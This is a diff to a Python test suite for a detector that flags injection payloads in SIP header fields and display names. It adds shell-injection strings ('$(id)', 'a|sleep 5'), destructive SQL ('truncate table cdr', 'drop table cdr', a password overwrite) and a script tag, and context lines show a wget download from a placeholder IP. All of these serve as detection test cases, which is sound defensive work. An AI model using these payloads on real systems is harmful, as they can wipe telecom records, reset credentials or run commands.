@@ -82,6 +82,12 @@ def test_registered_and_defaults_match_their_anchors() -> None:
         ("bob;wget http://203.0.113.9/x", "command"),
         ("a;whoami", "command"),
         ("a && wget http://203.0.113.9/x", "command"),
+        ("x && id", "command"),
+        ("a|sleep 5", "command"),
+        ("'; select * from subscriber--", "sql"),
+        ("1; update subscriber set password=1", "sql"),
+        ("1; truncate table cdr", "sql"),
+        ("1; delete from location", "sql"),
         ("%s%s%s%s", "format_string"),
         ("%x%x%x", "format_string"),
         ("%08x.%08x", "format_string"),
@@ -121,6 +127,16 @@ def test_find_payloads_classes(payload: str, kind: str) -> None:
         "john%20smith%20sons",  # encoded blanks, not "%20s" conversions
         "Save 100%25 now%25",  # encoded percent signs, not "%25n"
         "Ne%s\x00SIPPS",  # one %s: a fuzzer's mutation, malformed's business
+        # Regressions: prose that the first patterns took for shell or SQL.
+        "Sales|Echo 3",  # shells are case-sensitive: "Echo" is no command
+        "Caller | ID 42",
+        "Pets | cat 42",  # a number is an argument only for nc/ping/sleep/telnet
+        "Status; update follows",  # a stacked statement needs its own keyword
+        "Meeting; select winners",
+        "Alice; Select (",  # found by the property test below
+        "Alice; delete from list",  # no literal closed before ";"
+        "Lunch 2; update team set",  # an SQL update sets something "="
+        "Sleep (3)",  # SQL's sleep takes "(" right after the name, then a number
     ],
 )
 def test_find_payloads_benign_values(benign: str) -> None:
@@ -136,6 +152,26 @@ def test_find_payloads_benign_values(benign: str) -> None:
 def test_names_with_quotes_and_ampersands_never_fire(name: str) -> None:
     assert find_payloads(name) == {}
     assert PayloadInUserField().observe(observe(request(display=name, user_agent=name))) == []
+
+
+#: Words of display names and labels, including SQL and shell words written as people write them.
+_VOCABULARY = (
+    "Alice O'Brien D'Angelo Smith-Jones Sales Support Echo Test Select Update Drop Union "
+    "Order Sleep Cat ID Ping Script Reception Desk Floor Room Zoë Müller Straße and or the "
+    "of room desk sales team office"
+)
+_WORDS = st.sampled_from(_VOCABULARY.split())
+_NUMBERS = st.from_regex(r"\+?[0-9]{1,15}|[0-9]{1,4}(-[0-9]{2,4}){1,3}|#[0-9]{1,3}", fullmatch=True)
+_SEPARATORS = st.sampled_from([" ", " ", " & ", ", ", " - ", " / ", " | ", "; ", " (", ") ", "'s "])
+
+
+@given(st.lists(st.tuples(st.one_of(_WORDS, _NUMBERS), _SEPARATORS), min_size=1, max_size=8))
+def test_ordinary_names_and_numbers_never_fire(parts: list[tuple[str, str]]) -> None:
+    """Display names, department labels and numbers in any order, joined by the punctuation
+    people type (including "|" and ";"), never look like a payload."""
+    text = "".join(word + separator for word, separator in parts).strip()
+    assert find_payloads(text) == {}, text
+    assert find_payloads(quote(text, safe="")) == {}, text
 
 
 def test_format_string_fires_at_n_conversions_not_below() -> None:
@@ -169,6 +205,13 @@ def test_decode_rounds_fires_at_n_encodings_not_beyond() -> None:
         ("contact", {"extra": "Contact: <sip:a@b>, \"x' or '1'='1\" <sip:c@d>\r\n"}),
         ("p_asserted_identity", {"extra": "P-Asserted-Identity: <sip:a@evil$(id)>\r\n"}),
         ("request_uri", {"to_user": "1%20union%20select%20pw"}),
+        ("p_preferred_identity", {"extra": "P-Preferred-Identity: <sip:$(id)@x>\r\n"}),
+        ("remote_party_id", {"extra": 'Remote-Party-ID: "<script>" <sip:1@x>;party=calling\r\n'}),
+        ("diversion", {"extra": "Diversion: <sip:1%27%20or%201%3D1@x>;reason=unknown\r\n"}),
+        ("refer_to", {"extra": "Refer-To: <sip:`id`@x?Replaces=a%40b%3Bto-tag%3D1>\r\n"}),
+        ("referred_by", {"extra": "b: \"x' or '1'='1\" <sip:a@b>\r\n"}),  # compact form
+        ("reply_to", {"extra": "Reply-To: <sip:a@evil$(id)>\r\n"}),
+        ("organization", {"extra": "Organization: ACME'; drop table cdr--\r\n"}),
     ],
 )
 def test_fires_in_each_user_field(field: str, overrides: dict[str, str]) -> None:
